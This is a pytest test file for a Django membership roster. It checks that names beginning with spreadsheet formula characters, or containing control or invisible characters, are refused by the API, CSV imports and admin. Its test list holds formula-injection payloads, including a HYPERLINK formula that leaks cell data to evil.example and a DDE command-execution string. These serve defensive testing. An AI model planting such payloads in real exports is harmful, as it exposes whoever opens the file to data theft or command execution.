"""Names that a spreadsheet would run, or that hide what they say (issue 16): a person's or an
organisation's name starting with `=`, `+`, `-`, `@` (or their full-width forms), holding a
control or format character, or longer than 100 characters is refused wherever it enters: the
API, every file and the admin."""

from __future__ import annotations

import pytest
from django.test import Client

from huzhu.accounts.models import Role
from huzhu.core.tabular import TableError
from huzhu.members.models import Member, Organisation
from huzhu.members.roster import members_import, orgs_import
from tests.conftest import new_id_number, refused_naming

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",  # full-width =
    "＠SUM(A1)",  # full-width @
    "﹢1",  # small plus: NFKC reads +
    " \u3000=1",  # whitespace first, then =
    "王\u202e五",  # right-to-left override (Cf)
    "王\u200b五",  # zero-width space (Cf)
    "王\u2028五",  # line separator (Zl)
    "王\x07五",  # bell (Cc)
]
LONG = "王" * 101  # at most 100 characters, for an organisation too


def refused_rows(importer, data: bytes, file: str = "r.csv") -> list[tuple[int, str, str]]:
    with pytest.raises(TableError) as exc:
        importer(data, file=file)
    return [(e.row, e.column, e.reason) for e in exc.value.errors]


@pytest.mark.parametrize("name", HOSTILE)
def test_the_member_api_refuses_a_hostile_name_naming_the_field(tree, city_admin, api_as, name):
    r = api_as(city_admin).post(
        "/members", {"id_number": new_id_number(), "name": name, "unit_code": "U1"}
    )
    assert refused_naming(r, "name"), r.content
    assert not Member.objects.exists()


def test_the_member_api_stores_a_name_stripped(tree, city_admin, api_as):
    api = api_as(city_admin)
    r = api.post("/members", {"id_number": new_id_number(), "name": " 王五\t", "unit_code": "U1"})
    assert r.status_code == 201 and Member.objects.get().name == "王五"
    r = api.post(
        "/members", {"id_number": new_id_number(), "name": "O'Brien-Lee", "unit_code": "U1"}
    )
    assert r.status_code == 201  # a dash or an apostrophe inside a name is fine
    r = api.post("/members", {"id_number": new_id_number(), "name": "-1", "unit_code": "U1"})
    assert refused_naming(r, "name") and Member.objects.count() == 2


@pytest.mark.parametrize("name", HOSTILE[:3] + HOSTILE[5:6] + HOSTILE[9:10])
def test_a_unit_cannot_be_renamed_or_created_with_a_hostile_name(tree, xicheng_admin, api_as, name):
    api = api_as(xicheng_admin)
    renamed = api.patch("/orgs/U1", {"name": name})
    assert refused_naming(renamed, "name"), renamed.content
    assert Organisation.objects.get(code="U1").name == "西城邮政分公司工会"
    created = api.post("/orgs", {"code": "U8", "name": name, "kind": "unit", "parent_code": "BJ02"})
    assert refused_naming(created, "name"), created.content
    assert not Organisation.objects.filter(code="U8").exists()


def test_a_roster_with_hostile_names_has_bad_rows_and_writes_nothing(tree):
    lines = [f"{new_id_number()},{name},U1" for name in [*HOSTILE, LONG] if "," not in name]
    data = ("\n".join(["id_number,name,unit_code", *lines]) + "\n").encode()
    problems = refused_rows(members_import, data)
    assert [(row, col) for row, col, _ in problems] == [
        (row, "name") for row in range(2, 2 + len(lines))
    ]
    assert "不能以 = 开头" in problems[0][2]
    assert not Member.objects.exists()


def test_a_roster_cannot_create_a_unit_or_a_district_with_a_hostile_name(tree):
    data = (
        "id_number,name,unit_code,unit_name,district\n"
        f"{new_id_number()},王五,U8,=HYPERLINK(A1),西城区\n"
        f"{new_id_number()},赵六,U9,新工会,@district\n"
    ).encode()
    problems = refused_rows(members_import, data)
    assert [(row, col) for row, col, _ in problems] == [(2, "unit_name"), (3, "district")]
    assert not Organisation.objects.filter(code__in=["U8", "U9"]).exists()
    assert not Member.objects.exists()


def test_the_orgs_file_refuses_hostile_names(tree):
    data = (
        "code,name,parent_code,kind\n"
        "U8,+1 工会,BJ02,unit\n"
        "U9,正常工会,BJ02,unit\n"
        "U1,=HYPERLINK(A1),BJ02T01,unit\n"
        f"U7,{LONG},BJ02,unit\n"
    ).encode()
    problems = refused_rows(orgs_import, data, "orgs.csv")
    assert [(row, col) for row, col, _ in problems] == [(2, "name"), (4, "name"), (5, "name")]
    assert not Organisation.objects.filter(code__in=["U8", "U9"]).exists()
    assert Organisation.objects.get(code="U1").name == "西城邮政分公司工会"


@pytest.fixture
def superuser(tree, make_staff):
    client = Client()
    client.force_login(make_staff(Role.CITY_ADMIN, tree.city))
    return client


def test_the_admin_refuses_hostile_names(tree, superuser, make_member):
    r = superuser.post(
        f"/admin/members/organisation/{tree.u2.pk}/change/",
        {"code": "U2", "name": "-1+HYPERLINK(A1)", "kind": "unit", "parent": tree.xicheng.pk},
    )
    assert r.status_code == 200 and "errorlist" in r.content.decode()
    assert Organisation.objects.get(pk=tree.u2.pk).name == "西城环卫工会"
    member = make_member(tree.u1, name="王五")
    r = superuser.post(
        f"/admin/members/member/{member.pk}/change/",
        {
            "name": "＝1+1",
            "unit": tree.u1.pk,
            "is_active": "on",
            "cards-TOTAL_FORMS": "0",
            "cards-INITIAL_FORMS": "0",
        },
    )
    assert r.status_code == 200 and "errorlist" in r.content.decode()
    assert Member.objects.get(pk=member.pk).name == "王五"
